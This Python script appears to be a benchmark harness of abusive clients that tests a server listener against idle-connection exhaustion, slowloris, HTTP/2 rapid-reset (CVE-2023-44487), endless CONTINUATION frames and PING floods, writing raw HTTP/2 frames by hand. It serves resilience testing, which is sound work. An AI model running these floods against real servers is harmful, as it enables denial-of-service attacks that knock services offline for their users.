#!/usr/bin/env python3
"""Abusive clients for bench/listener_abuse.sh: python3 abuse.py MODE HOST:PORT SECONDS [N].

ABUSE_FROM=ADDR connects from that source address (e.g. 127.0.0.2: Linux routes all of
127.0.0.0/8 to loopback), so that the agent can tell the abuser from the good client.

Modes (raw sockets; HTTP/2 frames written by hand, as no well-behaved library sends them):
  idle        N connections (default 10000) that never send a byte, reopened when closed
  slowloris   N connections (default 200) sending a request's headers a byte every 100 ms
  rapid-reset HTTP/2 connections, one after another, each sending HEADERS + RST_STREAM pairs
              as fast as the socket takes them (CVE-2023-44487) until the server closes it
  continuation HTTP/2 connections each sending one header block that never ends
  ping        HTTP/2 connections each sending PINGs without reading the answers

Prints "ready" once the abuse is under way (the idle connections are open), then at the end one
line of what it did: connections, units sent, GOAWAY codes received.
"""

import collections
import os
import signal
import selectors
import socket
import struct
import sys
import time


SOURCE = (os.environ["ABUSE_FROM"], 0) if os.environ.get("ABUSE_FROM") else None


def connect(addr):
    return socket.create_connection(addr, source_address=SOURCE)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
GET = b"\x82\x86\x04\x06/users\x01\x01x"  # :method GET, :scheme http, :path /users, :authority x


def goaway_code(sock):
    """Read what the server sent until it closes; the GOAWAY error code if any."""
    buf, code = b"", None
    sock.settimeout(2)
    try:
        while True:
            d = sock.recv(65536)
            if not d:
                break
            buf += d
    except OSError:
        pass
    while len(buf) >= 9:
        n = int.from_bytes(buf[:3], "big")
        if buf[3] == 7 and len(buf) >= 9 + 8:
            code = int.from_bytes(buf[13:17], "big")
        buf = buf[9 + n:]
    return code


def h2_flood(addr, until, unit, stats):
    while time.monotonic() < until:
        s = connect(addr)
        s.settimeout(2)
        stats["connections"] += 1
        try:
            s.sendall(PREFACE)
            i = 0
            while time.monotonic() < until:
                s.sendall(b"".join(unit(i + k) for k in range(100)))
                i += 100
                stats["units"] += 100
        except OSError:
            pass
        code = goaway_code(s)
        stats[f"goaway_{code}"] += 1
        s.close()


def rapid(i):
    sid = 2 * i + 1
    return frame(1, 0x5, sid, GET) + frame(3, 0, sid, struct.pack(">I", 8))


def continuation(i):
    return frame(1, 0x1, 1, GET) if i == 0 else frame(9, 0, 1, b"\x00\x01a\x01b")


def ping(_):
    return frame(6, 0, 0, b"flooding")


def hold(addr, until, n, stats, drip):
    sel = selectors.DefaultSelector()  # epoll: any number of descriptors

    def open_one():
        s = connect(addr)
        s.setblocking(False)
        sel.register(s, selectors.EVENT_READ, [0])
        stats["connections"] += 1

    for _ in range(n):
        open_one()
    print("ready", flush=True)
    head = b"GET /users HTTP/1.1\r\nHost: x\r\nX-Slow: "
    next_drip = time.monotonic()
    while time.monotonic() < until:
        for key, _ in sel.select(timeout=0.05):
            s = key.fileobj
            try:
                if s.recv(4096):
                    continue
            except OSError:
                pass
            sel.unregister(s)
            s.close()
            stats["closed_by_server"] += 1
            open_one()
        if drip and time.monotonic() >= next_drip:
            next_drip += 0.1
            for key in list(sel.get_map().values()):
                sent = key.data
                try:
                    key.fileobj.send(head[sent[0]:sent[0] + 1] or b"a")
                    sent[0] += 1
                    stats["units"] += 1
                except OSError:
                    pass
    for key in list(sel.get_map().values()):
        key.fileobj.close()


def main():
    # SIGINT (the bench stopping the abuser): stop, and print what was done.
    signal.signal(signal.SIGINT, lambda *_: (_ for _ in ()).throw(SystemExit))
    mode, hostport, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    host, port = hostport.rsplit(":", 1)
    addr = (host, int(port))
    until = time.monotonic() + seconds
    stats = collections.Counter()
    try:
        run(mode, addr, until, stats)
    except SystemExit:
        pass
    print(mode, " ".join(f"{k}={v}" for k, v in sorted(stats.items())), flush=True)


def run(mode, addr, until, stats):
    if mode == "idle":
        hold(addr, until, int(sys.argv[4]) if len(sys.argv) > 4 else 10000, stats, drip=False)
    elif mode == "slowloris":
        hold(addr, until, int(sys.argv[4]) if len(sys.argv) > 4 else 200, stats, drip=True)
    else:
        unit = {"rapid-reset": rapid, "continuation": continuation, "ping": ping}[mode]
        print("ready", flush=True)
        h2_flood(addr, until, unit, stats)


if __name__ == "__main__":
    main()
